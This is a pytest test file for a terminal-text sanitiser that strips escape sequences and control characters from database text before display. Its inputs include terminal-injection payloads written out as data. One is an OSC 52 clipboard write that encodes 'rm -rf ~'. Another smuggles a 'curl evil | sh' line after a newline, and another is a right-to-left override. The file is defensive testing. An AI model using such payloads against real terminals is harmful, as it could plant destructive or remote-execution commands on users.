"""The one sanitiser: text from the database cannot drive the terminal."""

from __future__ import annotations

import pytest

from limbo_tui.terminal_text import is_terminal_safe, safe_text


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x1b[31mERROR\x1b[0m", "ERROR"),  # colours
        ("a\x1b]52;c;cm0gLXJmIH4=\x07b", "ab"),  # OSC 52: write the clipboard
        ("a\x1b]0;owned title\x1b\\b", "ab"),  # OSC title, ST-terminated
        ("x\x1b[2J\x1b[Hy", "xy"),  # clear screen, cursor home
        ("x\x9b31my", "xy"),  # 8-bit CSI
        ("id\x1bc", "id"),  # RIS: full terminal reset
        ("bell\x07", "bell\ufffd"),
        ("back\x08\x08", "back\ufffd\ufffd"),
        ("abc\u202edcba", "abc\ufffddcba"),  # right-to-left override
        ("line1\nline2\tend", "line1 line2 end"),
        ("over\rwrite", "overwrite"),
        ("plain 6/5 ✓", "plain 6/5 ✓"),
    ],
)
def test_safe_text_removes_what_could_drive_the_terminal(raw: str, shown: str) -> None:
    assert safe_text(raw) == shown


def test_safe_text_multiline_keeps_newlines_only() -> None:
    assert safe_text("a\r\nb\x1b[1mc", multiline=True) == "a\nbc"


def test_safe_text_limit_and_non_strings() -> None:
    assert safe_text("abcdefgh", 5) == "abcd…"
    assert len(safe_text("x" * 1000, 80)) == 80
    assert safe_text(None) == ""
    assert safe_text(42) == "42"


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("fe5f923f-1531-4c06-af78-f4e8f9b5b9c4-1", True),
        ("漢字-名前 ✓", True),
        ("id\ncurl evil | sh\n", False),
        ("id\x1b]52;c;cGF3bmVk\x07", False),
        ("tab\there", False),
        ("rtl\u202eexe", False),
    ],
)
def test_is_terminal_safe_says_whether_text_passes_unchanged(text: str, safe: bool) -> None:
    assert is_terminal_safe(text) is safe
